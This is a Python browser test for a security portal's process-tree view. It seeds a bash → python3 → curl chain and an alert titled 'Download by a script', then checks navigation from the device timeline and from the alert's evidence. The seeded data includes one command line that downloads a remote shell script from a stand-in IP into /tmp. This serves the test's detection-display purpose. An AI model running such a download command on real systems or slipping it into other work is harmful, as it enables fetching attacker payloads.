"""The process tree of a seeded three-generation chain (bash → python3 → curl, from DeviceProcessEvents), reached
from the device timeline and from an alert's evidence."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from playwright.sync_api import Browser, expect

from tests.e2e import portal_seed
from tests.support import VigilServer, post_batch, process_event

pytestmark = pytest.mark.browser
DOCS = Path(__file__).resolve().parents[2] / "docs" / "portal"
HOST = "tree-03.corp.example"
CHAIN = [  # (pid, parent pid, file, command line)
    (2001, 1, "bash", "/bin/bash -l"),
    (2002, 2001, "python3", "python3 /opt/tools/stage_7f3a.py --fetch"),
    (2003, 2002, "curl", "curl -fsSL https://203.0.113.9/p7f3a.sh -o /tmp/p7f3a.sh"),
    (2004, 2001, "ls", "ls -la /tmp"),
]


def test_process_tree_of_a_three_generation_chain(sqlite_server: VigilServer, chromium: Browser) -> None:
    server, base = sqlite_server, sqlite_server.url
    [dev] = portal_seed.enroll(server, [HOST])
    did = dev["device_id"]
    now = datetime.now(UTC)
    events = [process_event(did, i + 1, DeviceName=HOST, ProcessId=pid, InitiatingProcessId=ppid, FileName=name,
                            ProcessCommandLine=cmd, AccountName="dev", InitiatingProcessFileName="systemd",
                            Timestamp=(now - timedelta(minutes=10 - i)).strftime("%Y-%m-%dT%H:%M:%S.%fZ"))
              for i, (pid, ppid, name, cmd) in enumerate(CHAIN)]
    assert post_batch(server, dev["credential"], events).status_code == 200
    portal_seed.alerts(server, [(did, "Download by a script", "High", 0)],
                       evidence={**events[2], "ProcessId": 2003})
    context = chromium.new_context(base_url=base, viewport={"width": 1280, "height": 900})
    page = context.new_page()
    try:
        portal_seed.sign_in(page, "admin", server.admin_password)
        page.goto(f"/devices/{did}")
        page.locator("#timeline").get_by_role("link", name="2002", exact=True).click()
        expect(page).to_have_url(f"{base}/devices/{did}/process-tree?pid=2002")
        tree = page.locator("#process-tree")
        # Parent above, the chosen process outlined, its child below it.
        parent = tree.locator(".proc[data-pid='2001']")
        expect(parent).to_contain_text("/bin/bash -l")
        focus = tree.locator(".proc.focus")
        expect(focus).to_contain_text("python3 /opt/tools/stage_7f3a.py --fetch")
        child = tree.locator("li:has(> .proc.focus) > ul .proc[data-pid='2003']")
        expect(child).to_contain_text("curl -fsSL https://203.0.113.9/p7f3a.sh")
        expect(tree.locator("li:has(> .proc.focus) .proc[data-pid='2004']")).to_have_count(0)  # a sibling, not a child
        page.screenshot(path=str(DOCS / "process-tree.png"))
        # Up to the grandparent: both branches below it.
        tree.locator(".proc[data-pid='2001']").click()
        expect(page).to_have_url(f"{base}/devices/{did}/process-tree?pid=2001")
        expect(tree.locator(".proc.focus")).to_contain_text("/bin/bash -l")
        expect(tree.locator(".proc[data-pid='2003']")).to_be_visible()
        expect(tree.locator(".proc[data-pid='2004']")).to_be_visible()

        # From the alert's evidence.
        page.goto("/alerts")
        page.get_by_role("link", name="Download by a script").first.click()
        page.locator("#evidence").get_by_role("link", name="PID 2003").click()
        expect(page.locator("#process-tree .proc.focus")).to_contain_text("curl -fsSL")
        expect(page.locator("#process-tree .proc[data-pid='2001']")).to_be_visible()

        r = page.goto(f"/devices/{did}/process-tree?pid=999999")
        assert r is not None and r.status == 404
    finally:
        context.close()
